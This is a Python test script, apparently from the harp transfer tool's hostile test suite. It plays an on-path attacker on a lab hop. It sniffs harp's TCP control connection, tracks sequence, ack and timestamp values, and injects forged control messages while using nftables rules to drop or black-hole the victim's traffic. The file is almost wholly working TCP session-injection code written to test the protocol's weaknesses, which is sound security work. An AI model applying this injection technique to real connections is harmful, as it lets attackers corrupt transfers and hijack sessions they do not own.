#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An on-path attacker on the forwarding hop M (tests/hostile/control.sh): it watches harp's TCP
control connection of a live transfer and writes forged control messages into it, as if the
peer had sent them, then reports what it did.

  control_inject.py --type close|path|silent|unheard|none --out IF --victim IP --peer IP
                    --handle FILE --report FILE --ready FILE [--form 16|40] [...]

OUT is M's interface toward VICTIM, the end that is attacked; PEER is the other end, whose
messages the forgeries pretend to be. The control connection is the TCP stream between the two
with the listener's port (the first handle in FILE, harp-xfer's hex lines) on one side.

How it follows the stream: a packet socket on OUT with a TCP-only filter sees every segment M
forwards to the victim (outgoing, headers as M sends them: the victim's MAC as destination, M's
as source, TTL already lowered) and every segment the victim sends (incoming). The next sequence
number is the largest seq + length (+ SYN, FIN) of the peer's segments, never the last one's: a
keepalive probe goes one byte back. The ack is the largest of the peer's acks and the victim's
own seq + length. A forged segment copies the newest of the peer's segments, its options (the
timestamps, so it passes PAWS) included, with that sequence and ack number, PSH|ACK, the messages
as payload, and fresh IP and TCP checksums; it leaves OUT as a frame of M's. The sniffer sees the
forgery go out too, so the stream's sequence moves past it for the next one. The victim's TCP
takes it as the peer's next bytes; the peer's own next bytes at that sequence then look like a
retransmission to it, which is the point.

The control message (src/ctrlmsg.h): magic "HRPC", type, value, reserved, network order; with
--form 40, the 16 bytes, an 8-byte counter and 16 random bytes where a MAC would be (an attacker
without HARP_AUTH's keys cannot make the tag). What each type does, and when:

  close    (toward the sender A) --at s after the victim's first reliable frame, M starts dropping
           the victim's UDP: with --drop heads (the default) the first packet of each message
           (a frame whose first record is DATA at offset 0), with --drop all every packet; --lead
           s later, CLOSE with value = 1 + the highest psn of the victim's reliable frames seen
           since: "I took all you sent". Taken as the peer's last cumulative ack, it completes
           sends whose packets never all arrived. The drop is lifted --hold s after. Why heads:
           dropping everything leaves only what the sender's window lets out after the drop (on
           veth's tiny RTT about 24 packets of 1500 bytes, less than a 64 KiB message), so a
           false completion needs a message's end among them: about one run in two. Without its
           first packet no message completes at the receiver, while the sender still sends all
           the rest of every message the receiver's posted receives allow (the peer acks them
           selectively), and the forged close completes every one of those.
  silent   (toward A) at the same time, --count SILENT messages (value --value, 3750 ms: 3/8 of
           the default peer timeout) --gap s apart: "nothing of your data path reaches me", which
           turns a zero-copy sender to copy mode.
  unheard  (toward the receiver B) M drops the peer's UDP for --lead s from --at s after the
           victim's first reliable frame, then UNHEARD (value: the drop's length less 100 ms):
           "my timeouts found every path silent", so the victim replaces its pairs; --hold s
           later the drop is lifted.
  path     (toward A) from the start M drops the victim's PROBE frames, so the peer never
           reports a pair; for each probe round the attacker sees (up to --count rounds), 15 ms
           after its first probe, PATH reports of every candidate seen in it (value: candidate,
           reserved: round), and M black-holes every second of those pairs from then on: the
           victim would send on pairs no probe ever crossed, half of them dark. PROBEs pass
           again --hold s after the first forgery.
  none     watches only: the harness's baseline.

Everything is bounded: --limit seconds in all, and M's rules live in one nft table of its own
(harp_inject), deleted on the way out. Writes key=value lines into --report (injected: messages
written into the stream) and exits 0 when it injected what it meant to (none: when it saw the
stream), 1 if not.
"""
import argparse
import ctypes
import os
import select
import socket
import struct
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from packet_attack import WIRE_VERSION, checksum  # noqa: E402 (beside this file)

ETH_P_ALL = 3
ETH = 14  # harp and the kernel's TCP send untagged frames here
SO_ATTACH_FILTER = 26
CHAN_MAGIC = 0x48525043
CHAN_TYPES = {"close": 1, "path": 2, "silent": 3, "unheard": 4}
HARP_DATA, HARP_CTS, HARP_MSGERR, HARP_PROBE = 1, 3, 4, 5
RELIABLE = (HARP_DATA, HARP_CTS, HARP_MSGERR)
TCP_FIN, TCP_SYN, TCP_RST, TCP_PSH, TCP_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
SEQ_MOD = 1 << 32
NFT_TABLE = "harp_inject"
PATH_COLLECT_S = 0.005  # a probe round's candidates arrive within this after its first
PROBE_CANDS = 64  # a round's candidates (src/paths.h CONN_PROBE_CANDS)


def seq_after(a, b):
    """Whether 32-bit sequence (or psn) a comes after b, modulo 2^32."""
    return a != b and (a - b) % SEQ_MOD < SEQ_MOD // 2


def seq_max(a, b):
    if a is None:
        return b
    return b if b is not None and seq_after(b, a) else a


def proto_filter(proto):
    """Classic BPF that keeps IPv4 or IPv6 (no extension headers) frames carrying proto."""
    return [
        (0x28, 0, 0, 12),  # ldh [12]: the ethertype
        (0x15, 0, 2, 0x0800),  # IPv4? else to 4
        (0x30, 0, 0, 23),  # ldb [23]: its protocol
        (0x05, 0, 0, 2),  # ja 6
        (0x15, 0, 3, 0x86DD),  # IPv6? else to 8
        (0x30, 0, 0, 20),  # ldb [20]: its next header
        (0x15, 0, 1, proto),  # ours? else to 8
        (0x06, 0, 0, 0x40000),  # keep the whole frame
        (0x06, 0, 0, 0),  # drop
    ]


def sniffer(ifname, proto):
    """A packet socket on ifname that sees only proto's frames: the filter goes on before the
    bind, so no other frame is ever queued on it."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    code = proto_filter(proto)
    prog = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *c) for c in code))
    s.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER,
                 struct.pack("HL", len(code), ctypes.addressof(prog)))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    s.bind((ifname, ETH_P_ALL))
    s.setblocking(False)
    return s


def ip_of(f):
    """(version, header length, protocol, source, destination, end of the IP packet) of frame
    f, or None for what is neither IPv4 nor IPv6."""
    if len(f) >= ETH + 20 and f[12:14] == b"\x08\x00":
        ihl = (f[14] & 15) * 4
        return 4, ihl, f[23], bytes(f[26:30]), bytes(f[30:34]), \
            ETH + struct.unpack_from("!H", f, 16)[0]
    if len(f) >= ETH + 40 and f[12:14] == b"\x86\xdd":
        return 6, 40, f[20], bytes(f[22:38]), bytes(f[38:54]), \
            ETH + 40 + struct.unpack_from("!H", f, 18)[0]
    return None


def addr_bytes(text):
    fam = socket.AF_INET6 if ":" in text else socket.AF_INET
    return socket.inet_pton(fam, text)


def listener_port(handle_file):
    """The TCP port of the first handle in harp-xfer's handle file (ctrlmsg.h: handle_wire)."""
    with open(handle_file, encoding="ascii") as f:
        h = bytes.fromhex(f.readline().strip())
    return struct.unpack("!H", h[12:14])[0]


class Stream:
    """What the attacker knows of the control connection's peer-to-victim direction."""

    def __init__(self, victim, peer, port):
        self.victim, self.peer, self.port = victim, peer, port
        self.template = None  # the newest of the peer's segments, headers only
        self.template_at = 0.0  # when it passed
        self.next_seq = None
        self.ack = None
        self.segments = 0  # the peer's, ours among them
        self.victim_segments = 0

    def take(self, f, outgoing):
        ip = ip_of(f)
        if ip is None or ip[2] != 6:
            return
        _, ihl, _, src, dst, end = ip
        at = ETH + ihl
        if len(f) < at + 20:
            return
        sport, dport, seq, ack, off_flags = struct.unpack_from("!HHIIH", f, at)
        if self.port not in (sport, dport):
            return
        doff, flags = (off_flags >> 12) * 4, off_flags & 0x3F
        seq_end = (seq + end - at - doff + bool(flags & TCP_SYN) + bool(flags & TCP_FIN)) % SEQ_MOD
        if flags & TCP_RST:
            return
        if outgoing and src == self.peer and dst == self.victim:
            self.template, self.template_at = bytes(f[:at + doff]), time.monotonic()
            self.next_seq = seq_max(self.next_seq, seq_end)
            if flags & TCP_ACK:
                self.ack = seq_max(self.ack, ack)
            self.segments += 1
        elif not outgoing and src == self.victim and dst == self.peer:
            self.ack = seq_max(self.ack, seq_end)
            self.victim_segments += 1

    def advance_tsval(self, g, opt, end):
        """Moves the timestamp option's TSval (kind 8) on by the whole ms since the template
        passed: the peer's clock now, give or take the 1 PAWS allows, so neither the forgery
        (older than a segment of the peer's that just passed) nor the peer's next segments
        (older than the forgery) look like old duplicates. Linux's timestamps count ms."""
        while opt < end:
            kind = g[opt]
            if kind == 0:
                return
            if kind == 1:
                opt += 1
                continue
            if opt + 1 >= end or g[opt + 1] < 2:
                return
            if kind == 8 and g[opt + 1] == 10 and opt + 10 <= end:
                tsval, = struct.unpack_from("!I", g, opt + 2)
                ms = int((time.monotonic() - self.template_at) * 1000)
                struct.pack_into("!I", g, opt + 2, (tsval + ms) % SEQ_MOD)
                return
            opt += g[opt + 1]

    def ready(self):
        return self.template is not None and self.ack is not None

    def forge(self, payload):
        """A segment of the peer's carrying payload at the stream's next sequence number."""
        g = bytearray(self.template)
        ver, ihl = (4, (g[14] & 15) * 4) if g[12:14] == b"\x08\x00" else (6, 40)
        at = ETH + ihl
        doff = (g[at + 12] >> 4) * 4
        g += payload
        tcp_len = doff + len(payload)
        if ver == 4:
            struct.pack_into("!HH", g, 16, ihl + tcp_len, int.from_bytes(os.urandom(2), "big"))
            g[24:26] = b"\0\0"
            struct.pack_into("!H", g, 24, checksum(bytes(g[ETH:at])))
            pseudo = bytes(g[26:34]) + struct.pack("!BBH", 0, 6, tcp_len)
        else:
            struct.pack_into("!H", g, 18, tcp_len)
            pseudo = bytes(g[22:54]) + struct.pack("!IxxxB", tcp_len, 6)
        struct.pack_into("!II", g, at + 4, self.next_seq, self.ack)
        self.advance_tsval(g, at + 20, at + doff)
        g[at + 12] &= 0xF0
        g[at + 13] = TCP_PSH | TCP_ACK
        g[at + 16:at + 20] = b"\0\0\0\0"  # checksum, urgent pointer
        struct.pack_into("!H", g, at + 16, checksum(pseudo + bytes(g[at:])))
        self.next_seq = (self.next_seq + len(payload)) % SEQ_MOD
        return bytes(g)


def harp_records(f, ip, lo, hi):
    """(type, psn, rsn, tag, source port, destination port) of every record of a harp frame;
    [] for anything else."""
    _, ihl, _, _, _, end = ip
    at = ETH + ihl
    if len(f) < at + 8 + 64:
        return []
    sport, dport, ulen = struct.unpack_from("!HHH", f, at)
    h = at + 8
    if not lo <= dport <= hi or f[h] != WIRE_VERSION:
        return []
    end = min(end, at + ulen, len(f)) - struct.unpack_from("!H", f, h + 60)[0]
    out = []
    while h + 64 <= end:
        typ = f[h + 1]
        psn, = struct.unpack_from("!I", f, h + 16)
        rsn, tag = struct.unpack_from("!II", f, h + 32)
        out.append((typ, psn, rsn, tag, sport, dport))
        h += 64 + struct.unpack_from("!H", f, h + 56)[0]
    return out


def chan_msg(mtype, value, reserved, form, counter):
    m = struct.pack("!IIII", CHAN_MAGIC, mtype, value & 0xFFFFFFFF, reserved & 0xFFFFFFFF)
    if form == 40:
        m += struct.pack("!Q", counter) + os.urandom(16)
    return m


def nft(script):
    """Runs an nft script in this (M's) namespace; raises if nft refuses it."""
    subprocess.run(["nft", "-f", "-"], input=script, text=True, check=True, timeout=10)


class Attack:
    def __init__(self, a):
        self.a = a
        self.victim, self.peer = addr_bytes(a.victim), addr_bytes(a.peer)
        self.fam = "ip6" if ":" in a.victim else "ip"
        self.lo, self.hi = (int(x) for x in a.ports.split("-"))
        self.stream = Stream(self.victim, self.peer, listener_port(a.handle))
        self.tcp = sniffer(a.out, 6)
        self.udp = None
        self.tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.tx.bind((a.out, 0))
        self.deadline = time.monotonic() + a.limit
        self.first_reliable = None  # when the victim's first reliable frame passed
        self.psn_max = None  # the highest psn of the victim's reliable frames seen
        self.psn_min = None  # and the lowest
        self.rounds = {}  # PATH: probe round -> (first seen, {candidate: (sport, dport)})
        self.report = {"type": a.type, "form": a.form, "victim": a.victim, "peer": a.peer,
                       "listener_port": self.stream.port, "injected": 0, "segments_sent": 0}
        self.counter = 1
        nft(f"table inet {NFT_TABLE} {{\n"
            "\tchain forward { type filter hook forward priority filter; policy accept; }\n}\n")

    def udp_open(self):
        if self.udp is None:
            self.udp = sniffer(self.a.out, 17)

    def udp_close(self):
        if self.udp is not None:
            self.udp.close()
            self.udp = None

    def take_udp(self, f, outgoing):
        ip = ip_of(f)
        if outgoing or ip is None or ip[3] != self.victim:
            return
        for typ, psn, rsn, tag, sport, dport in harp_records(f, ip, self.lo, self.hi):
            if typ in RELIABLE:
                self.psn_max = seq_max(self.psn_max, psn)
                if self.psn_min is None or seq_after(self.psn_min, psn):
                    self.psn_min = psn
                if self.first_reliable is None:
                    self.first_reliable = time.monotonic()
            elif typ == HARP_PROBE:
                first, cands = self.rounds.setdefault(rsn, (time.monotonic(), {}))
                cands[tag] = (sport, dport)

    def pump(self, until, done=lambda: False):
        """Follows the stream (and harp's frames while the UDP socket is open) until the time
        until, done() holds, or the limit; False if the limit came first."""
        while not done():
            now = time.monotonic()
            if now >= self.deadline:
                return False
            if now >= until:
                return True
            socks = [self.tcp] + ([self.udp] if self.udp is not None else [])
            readable, _, _ = select.select(socks, [], [], min(until, self.deadline) - now)
            for s in readable:
                for _ in range(256):  # a bounded batch, then the clock again
                    try:
                        f, addr = s.recvfrom(65536)
                    except BlockingIOError:
                        break
                    outgoing = addr[2] == socket.PACKET_OUTGOING
                    if s is self.tcp:
                        self.stream.take(f, outgoing)
                    else:
                        self.take_udp(f, outgoing)
        return True

    def drain(self, s):
        """Takes every frame queued on s now, without waiting: what the attacker knows is
        then as new as the clock (a segment of the peer's still queued would leave the
        forgery's sequence number and timestamp behind it)."""
        for _ in range(100000):
            try:
                f, addr = s.recvfrom(65536)
            except BlockingIOError:
                return
            outgoing = addr[2] == socket.PACKET_OUTGOING
            if s is self.tcp:
                self.stream.take(f, outgoing)
            else:
                self.take_udp(f, outgoing)

    def inject(self, msgs):
        """Writes msgs into the stream as the peer's next segments: as many whole messages
        in each as OUT's MTU takes."""
        self.drain(self.tcp)
        if not self.stream.ready():
            return False
        with open(f"/sys/class/net/{self.a.out}/mtu", encoding="ascii") as m:
            room = int(m.read()) - (len(self.stream.template) - ETH)
        per_segment = max(1, room // self.a.form)
        self.report.setdefault("seq", self.stream.next_seq)
        self.report.setdefault("ack", self.stream.ack)
        for at in range(0, len(msgs), per_segment):
            payload = b""
            for mtype, value, reserved in msgs[at:at + per_segment]:
                payload += chan_msg(mtype, value, reserved, self.a.form, self.counter)
                self.counter += 1
            self.tx.send(self.stream.forge(payload))
            self.report["injected"] += len(payload) // self.a.form
            self.report["segments_sent"] += 1
        return True

    def drop(self, rule, handle_name):
        """Adds rule to M's forward chain; remembers it under handle_name for undrop."""
        nft(f"add rule inet {NFT_TABLE} forward {rule} counter drop comment \"{handle_name}\"\n")

    def undrop(self, handle_name):
        out = subprocess.run(["nft", "-a", "list", "chain", "inet", NFT_TABLE, "forward"],
                             capture_output=True, text=True, timeout=10, check=True).stdout
        for line in out.splitlines():
            if f'comment "{handle_name}"' in line and "# handle " in line:
                handle = line.rsplit("# handle ", 1)[1].strip()
                nft(f"delete rule inet {NFT_TABLE} forward handle {handle}\n")

    def wait_trigger(self):
        """Until --at s after the victim's first reliable frame (the UDP socket open only
        while that is awaited: at full rate the sniffer would fall behind); its time, or None
        if the limit came first."""
        self.udp_open()
        if not self.pump(self.deadline, lambda: self.first_reliable is not None):
            return None
        self.udp_close()
        trigger = self.first_reliable + self.a.at
        return trigger if self.pump(trigger) else None

    def run_close(self):
        """The highest psn counts only frames seen once the drop is in place: none of those
        reached the peer, and at the victim's rate after the drop (what its window lets out,
        then retransmissions) the sniffer keeps up and misses none."""
        if self.wait_trigger() is None:
            return False
        what = "meta l4proto udp"
        if self.a.drop == "heads":
            # a DATA record first in its frame, at offset 0 of its message
            what = f"udp dport {self.lo}-{self.hi} @th,72,8 {HARP_DATA} @th,448,64 0"
        self.drop(f"{self.fam} saddr {self.a.victim} {what}", "from-victim")
        self.report["drop_from"] = self.a.victim
        self.report["drop"] = self.a.drop
        self.psn_max = self.psn_min = None
        self.udp_open()
        self.pump(time.monotonic() + self.a.lead)
        self.drain(self.udp)
        self.udp_close()
        if self.psn_max is None:
            return False
        value = self.a.value if self.a.value is not None else (self.psn_max + 1) % SEQ_MOD
        self.report["psn_max_seen"] = self.psn_max
        # psns the victim sent once the drop was on
        self.report["psns_after_drop"] = (self.psn_max - self.psn_min + 1) % SEQ_MOD
        self.report["value"] = value
        ok = self.inject([(CHAN_TYPES["close"], value, 0)])
        self.pump(time.monotonic() + self.a.hold)
        self.undrop("from-victim")
        return ok

    def run_silent(self):
        if self.wait_trigger() is None:
            return False
        value = self.a.value if self.a.value is not None else 3750
        self.report["value"] = value
        for _ in range(self.a.count):
            if not self.inject([(CHAN_TYPES["silent"], value, 0)]):
                return False
            self.pump(time.monotonic() + self.a.gap)
        return True

    def run_unheard(self):
        if self.wait_trigger() is None:
            return False
        self.drop(f"{self.fam} saddr {self.a.peer} meta l4proto udp", "from-peer")
        self.report["drop_from"] = self.a.peer
        self.pump(time.monotonic() + self.a.lead)
        value = self.a.value if self.a.value is not None else int(self.a.lead * 1000) - 100
        self.report["value"] = value
        ok = self.inject([(CHAN_TYPES["unheard"], value, 0)])
        self.pump(time.monotonic() + self.a.hold)
        self.undrop("from-peer")
        return ok

    def run_path(self):
        """Forged reports for the probe rounds the victim sends while M drops its probes."""
        fam = self.fam
        self.drop(f"{fam} saddr {self.a.victim} udp dport {self.lo}-{self.hi} @th,72,8 "
                  f"{HARP_PROBE}", "probes")
        self.udp_open()
        forged, first_forgery, holes = set(), None, 0
        while len(forged) < self.a.count:
            if first_forgery is not None and time.monotonic() > first_forgery + self.a.hold:
                break
            newest = max(self.rounds, default=None, key=lambda r: self.rounds[r][0])
            if newest is None or newest in forged:
                if not self.pump(time.monotonic() + 0.005):
                    break
                continue
            seen, cands = self.rounds[newest]
            # the round's candidates, but no later than a newer round: only the victim's
            # current round counts (paths.c: conn_on_probe_result)
            if not self.pump(seen + PATH_COLLECT_S, lambda: len(cands) >= PROBE_CANDS or
                             max(self.rounds, key=lambda r: self.rounds[r][0]) != newest):
                break
            if not self.stream.ready() or \
                    max(self.rounds, key=lambda r: self.rounds[r][0]) != newest:
                continue
            msgs = [(CHAN_TYPES["path"], cand, newest) for cand in sorted(cands)]
            self.inject(msgs)
            forged.add(newest)
            first_forgery = first_forgery or time.monotonic()
            # every second forged pair goes dark: a path the victim takes on our word alone
            rules = ""
            for cand in sorted(cands)[::2]:
                sport, dport = cands[cand]
                rules += (f"add rule inet {NFT_TABLE} forward {fam} saddr {self.a.victim} "
                          f"udp sport {sport} udp dport {dport} counter drop comment \"hole\"\n")
                holes += 1
            nft(rules)
        self.udp_close()
        self.report["rounds_forged"] = len(forged)
        self.report["rounds_seen"] = len(self.rounds)
        t0 = min((t for t, _ in self.rounds.values()), default=0)
        self.report["rounds"] = " ".join(f"{r}@{(t - t0) * 1000:.0f}ms/{len(c)}"
                                         for r, (t, c) in sorted(self.rounds.items()))
        self.report["forged_rounds"] = " ".join(str(r) for r in sorted(forged))
        self.report["pairs_dark"] = holes
        if first_forgery is not None:
            self.pump(first_forgery + self.a.hold)
        self.undrop("probes")
        return bool(forged)

    def run_none(self):
        self.wait_trigger()
        self.udp_close()
        return self.stream.ready()

    def run(self):
        with open(self.a.ready, "w", encoding="ascii") as r:
            r.write("ready\n")
        ok = getattr(self, f"run_{self.a.type}")()
        # the stream as it stood after the attack, for the log
        self.pump(time.monotonic() + 0.2)
        self.report["peer_segments_seen"] = self.stream.segments
        self.report["victim_segments_seen"] = self.stream.victim_segments
        self.report["result"] = "ok" if ok else "FAIL"
        return ok

    def close(self):
        subprocess.run(["nft", "delete", "table", "inet", NFT_TABLE], capture_output=True,
                       timeout=10, check=False)
        with open(self.a.report, "w", encoding="ascii") as out:
            for k, v in self.report.items():
                out.write(f"{k}={v}\n")


def parse():
    p = argparse.ArgumentParser(description="forges harp control messages on a hop")
    p.add_argument("--type", required=True, choices=sorted(CHAN_TYPES) + ["none"])
    p.add_argument("--out", required=True, help="M's interface toward the victim")
    p.add_argument("--victim", required=True, help="the attacked end's address")
    p.add_argument("--peer", required=True, help="the end the forgeries pretend to be")
    p.add_argument("--handle", required=True, help="harp-xfer's handle file")
    p.add_argument("--report", required=True)
    p.add_argument("--ready", required=True, help="written once the sniffer is listening")
    p.add_argument("--form", type=int, choices=(16, 40), default=16,
                   help="16: a message as it is today; 40: with a counter and a random tag")
    p.add_argument("--value", type=int, help="the message's value (default: by type)")
    p.add_argument("--at", type=float, default=1.5,
                   help="seconds after the victim's first reliable frame")
    p.add_argument("--lead", type=float, default=0.5, help="seconds of drop before injecting")
    p.add_argument("--drop", choices=("heads", "all"), default="heads",
                   help="close: drop the first packet of each message, or every UDP packet")
    p.add_argument("--hold", type=float, default=1.0, help="seconds of drop after injecting")
    p.add_argument("--count", type=int, default=3, help="silent: messages; path: rounds")
    p.add_argument("--gap", type=float, default=0.2, help="silent: seconds between messages")
    p.add_argument("--ports", default="47000-47063", help="harp's UDP range")
    p.add_argument("--limit", type=float, default=40, help="seconds in all, at most")
    return p.parse_args()


def main():
    a = parse()
    attack = Attack(a)
    try:
        ok = attack.run()
    finally:
        attack.close()
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
